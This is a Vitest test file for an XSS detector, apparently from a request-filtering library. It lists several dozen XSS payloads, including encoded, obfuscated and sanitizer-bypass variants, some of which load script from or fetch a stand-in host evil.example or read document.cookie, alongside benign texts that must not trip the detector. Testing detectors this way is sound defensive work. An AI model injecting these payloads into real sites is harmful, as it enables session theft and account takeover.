import { describe, expect, it } from 'vitest';
import { xssDetector } from '../../../src/detectors/xss/xss-detector.js';
import type { InspectedValue, Paranoia } from '../../../src/types.js';
import { BENIGN_TEXTS } from './benign-texts.js';

function at(value: string, name = 'q'): InspectedValue {
  return { location: `query.${name}`, value, raw: value, name, kind: 'query' };
}

function confidence(value: string, paranoia: Paranoia = 1): number {
  return xssDetector
    .inspect(at(value), paranoia)
    .reduce((max, finding) => Math.max(max, finding.confidence), 0);
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg\nonload=alert(1)//',
  '<body onload=alert(1)>',
  '<details open ontoggle=confirm(1)>',
  '<x onpointerrawupdate=prompt(1)>move',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert&lpar;1&rpar;">x</a>',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<button formaction=javascript:alert(1)>go</button>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<object data="javascript:alert(1)">',
  '<embed src=//evil.example/x.swf>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<div style="width:expression(alert(1))">',
  '<div style="x:\\65xpression(alert(1))">',
  '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICK',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '"><script>alert(1)</script>',
  '"onwheel=alert(1)',
  '"//Onx=""//onfocus=prompt(1)>',
  '<!--><svg/onload=alert(1)>',
  '<!<script>alert(document.domain)</script>',
  'javascript:alert(document.cookie)',
  ' javascript:fetch(`//evil.example`)',
  'data:text/html,<script>alert(1)</script>',
  "';alert(1)//",
  '"));alert(document.domain)//',
  'alert?.(document?.cookie)',
  '(alert)(1)',
  'confirm.call(null,1)',
  'eval(atob("YWxlcnQoMSk="))',
  'document["cookie"]',
];

describe('xssDetector', () => {
  it.each(ATTACKS)('blocks %j', (payload) => {
    expect(confidence(payload)).toBeGreaterThanOrEqual(0.9);
  });

  it.each(BENIGN_TEXTS)('does not block %j', (text) => {
    expect(confidence(text)).toBeLessThan(0.9);
  });

  it('leaves plain markup alone at paranoia 1 and notes it at paranoia 3', () => {
    expect(confidence('<b>bold</b>', 1)).toBe(0);
    const at3 = confidence('<b>bold</b>', 3);
    expect(at3).toBeGreaterThan(0);
    expect(at3).toBeLessThan(0.9);
  });

  it('alerts but does not block on a bare script-string break without a call, from paranoia 2', () => {
    expect(confidence("';x=1//", 1)).toBe(0);
    const at2 = confidence("';x=1//", 2);
    expect(at2).toBeGreaterThan(0);
    expect(at2).toBeLessThan(0.9);
  });

  it.each([
    '" autof<b>ocus onf<i>ocus=pro<i>mpt(1) x="',
    "'><im<br>g src=x one<x>rror=ale<x>rt(1)>",
    'pro<u>mpt</u>(document.title)',
    "' onmouse<q>over=con<q>firm(1) '",
    'x" sty<b>le=x on<b>load=eva<b>l(name) "',
  ])('blocks %j, which a tag-stripping sanitizer turns into script', (payload) => {
    expect(confidence(payload)).toBeGreaterThanOrEqual(0.9);
  });

  it.each([
    'a<b>c</b>d',
    'H<sub>2</sub>O is water; x<sup>2</sup>+y<sup>2</sup>',
    'Use std::vector<int>(10) or List<String>(list) in code',
    '<p>O\'Brien said "hi"</p>',
    'Ma<wbr>ximilian Mustermann-Schönberger',
    '東京<br>大阪<br>名古屋',
  ])('leaves %j alone once its tags are stripped', (text) => {
    expect(confidence(text)).toBeLessThan(0.9);
  });

  it('reads a long run of tags in one pass', () => {
    const hostile = 'a<b>'.repeat(30_000) + '<a<a<a'.repeat(10_000) + '>';
    expect(() => xssDetector.inspect(at(hostile), 4)).not.toThrow();
  });

  it('does not block prose that starts with "JavaScript:"', () => {
    expect(confidence('JavaScript: Basics of the Language')).toBeLessThan(0.9);
  });

  it('reports the category, the location and evidence of at most 200 characters', () => {
    const long = `<img src=x onerror=alert(1) title="${'a'.repeat(400)}">`;
    const [finding] = xssDetector.inspect(at(long, 'comment'), 1);
    expect(finding).toMatchObject({ category: 'xss', location: 'query.comment' });
    expect(finding?.evidence.length).toBeLessThanOrEqual(200);
    expect(finding?.evidence).toContain('onerror');
  });

  it('reads long hostile input in one pass', () => {
    const hostile = '<a '.repeat(20_000) + '"'.repeat(20_000) + '<!--'.repeat(20_000);
    expect(() => xssDetector.inspect(at(hostile), 4)).not.toThrow();
  });
});
